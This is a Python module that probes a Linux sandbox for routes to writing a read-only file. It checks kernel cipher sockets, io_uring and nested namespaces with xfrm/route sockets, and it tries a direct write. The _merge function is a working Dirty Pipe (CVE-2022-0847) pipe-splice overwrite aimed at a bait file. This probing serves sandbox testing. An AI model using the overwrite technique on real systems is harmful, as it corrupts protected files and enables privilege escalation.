"""Ways by which programs have written to the kernel's copy of a file that they may only read."""

from __future__ import annotations

import os

import _kernel

AF_ALG, AF_NETLINK = 38, 16
SOCK_RAW, SOCK_SEQPACKET = 3, 5
NETLINK_ROUTE, NETLINK_XFRM = 0, 6


def observe(path: str) -> dict[str, object]:
    """Report the errno of each way, None for one that is open, and what came of the attempts to change `path`.

    `alg` is a socket of the kernel's ciphers, `io_uring` a ring, `namespaces` those in which `xfrm` and `routes` can be
    configured. `merged` is whether a pipe took one byte of the file and another of the probe's behind it; `write`
    is how opening it for writing ended. Where one of these works, the file is changed: it must be bait.
    """
    nested = _kernel.in_child(_sockets_in_nested)
    return {
        "alg": _socket(AF_ALG, SOCK_SEQPACKET, 0),
        "io_uring": _kernel.attempt_syscall("io_uring_setup", 1, bytearray(120))["errno"],
        "namespaces": nested["errno"],
        "xfrm": nested.get("xfrm"),
        "routes": nested.get("routes"),
        "merged": _kernel.in_child(lambda: _merge(path)),
        "write": _kernel.attempt(lambda: _write(path))["errno"],
    }


def _sockets_in_nested() -> dict[str, object]:
    _kernel.syscall("unshare", _kernel.CLONE_NEWUSER | _kernel.CLONE_NEWNET)
    return {
        "errno": None,
        "xfrm": _socket(AF_NETLINK, SOCK_RAW, NETLINK_XFRM),
        "routes": _socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE),
    }


def _socket(family: int, kind: int, protocol: int) -> object:
    return _kernel.attempt(lambda: os.close(_kernel.syscall("socket", family, kind, protocol)))["errno"]


def _merge(path: str) -> dict[str, object]:
    """A pipe whose buffers had once been written to took them for its own later: CVE-2022-0847."""
    reader, writer = os.pipe()
    size = os.read(reader, os.write(writer, bytes(4096)))
    file = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
    spliced = os.splice(file, writer, 1, offset_src=0)
    return {"errno": None, "emptied": len(size), "spliced": spliced, "written": os.write(writer, b"!")}


def _write(path: str) -> None:
    descriptor = os.open(path, os.O_WRONLY | os.O_CLOEXEC)
    os.write(descriptor, b"!")
    os.close(descriptor)
